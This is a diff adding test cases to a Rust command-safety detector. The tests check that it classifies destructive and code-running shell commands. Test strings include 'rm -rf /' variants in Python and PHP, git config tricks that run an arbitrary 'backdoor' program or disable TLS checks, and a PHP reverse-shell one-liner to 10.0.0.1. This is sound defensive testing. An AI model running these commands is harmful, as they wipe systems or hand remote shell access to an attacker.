@@ -519,6 +519,8 @@ fn texts_by_name() {
         "node -e 'const p = \"/\"; require(\"fs\").rmSync(p, {recursive: true, force: true})'",
         "python3 -c 'import os; c = \"rm -rf /\"; os.system(c)'",
         "perl -e 'my $c = \"rm -rf /\"; system($c)'",
+        "python3 -c 'import os; os.system(\"rm -rf \" + \"/\")'",
+        "php -r 'system(\"rm -rf \" . \"/\");'",
     ]);
     for text in [
         "python3 -c 'import shutil; p=\"/\"; p=f(); shutil.rmtree(p)'",
@@ -592,4 +594,84 @@ fn verbs_of_services() {
         "TAR_OPTIONS='--checkpoint-action=exec=rm\\ -rf\\ /' tar -cf o.tar f",
         "tar -xf i.tar --to-com='rm -rf /'",
     ]);
+}
+
+/// Settings that make git run a program: whoever nobody knows, or from a folder of anybody.
+#[test]
+fn programs_by_setting() {
+    for (text, expected) in [
+        (
+            "git -c core.sshCommand=backdoor fetch",
+            "run-code file backdoor",
+        ),
+        (
+            "GIT_SSH_COMMAND=backdoor git fetch",
+            "run-code file backdoor",
+        ),
+        ("env GIT_PAGER=/tmp/x git log", "run-code file /tmp/x"),
+        (
+            "git fetch --upload-pack=backdoor origin",
+            "run-code file backdoor",
+        ),
+        (
+            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0=backdoor git fetch",
+            "run-code file backdoor",
+        ),
+        (
+            "V=backdoor git --config-env=core.sshCommand=V fetch",
+            "run-code file backdoor",
+        ),
+        (
+            "git --config-env=core.sshCommand=V fetch",
+            "run-code unknown git-config",
+        ),
+        ("git -c include.path=/tmp/x status", "run-code file /tmp/x"),
+        ("GIT_CONFIG_GLOBAL=/tmp/x git fetch", "run-code file /tmp/x"),
+        (
+            "git -c http.sslVerify=0 fetch",
+            "disable-security tls-verification",
+        ),
+        (
+            "git -c core.hooksPath=/tmp/h commit -m x",
+            "run-code file /tmp/h",
+        ),
+        (
+            "git -c http.sslCAInfo=/tmp/c.pem fetch",
+            "disable-security tls-verification",
+        ),
+        (
+            "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0=backdoor git fetch",
+            "run-code file backdoor",
+        ),
+        ("git -c alias.x=branch x -D topic", "branch-delete topic"),
+        (
+            "git -c alias.x=y -c alias.y=branch x -D topic",
+            "branch-delete topic",
+        ),
+    ] {
+        has(text, expected);
+    }
+    for text in [
+        "GIT_EDITOR=true git rebase --continue",
+        "git -c core.pager=cat log",
+        "git -c core.pager=delta log",
+        "GIT_SSH_COMMAND='ssh -i key' git fetch",
+        "git -c credential.helper=store fetch",
+        "GIT_CONFIG_GLOBAL=~/.gitconfig.work git push",
+        "git config core.editor nvim",
+        "git config filter.lfs.clean 'git-lfs clean -- %f'",
+    ] {
+        lacks(text, "run-code");
+    }
+}
+
+/// What other languages do to globs and sockets.
+#[test]
+fn other_languages() {
+    has("perl -e 'unlink glob(\"/etc/*\")'", "delete /etc/*");
+    has(
+        "php -r '$s=fsockopen(\"10.0.0.1\",99);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+        "run-code remote 10.0.0.1",
+    );
+    has("history | sh", "run-code unknown shell");
 }
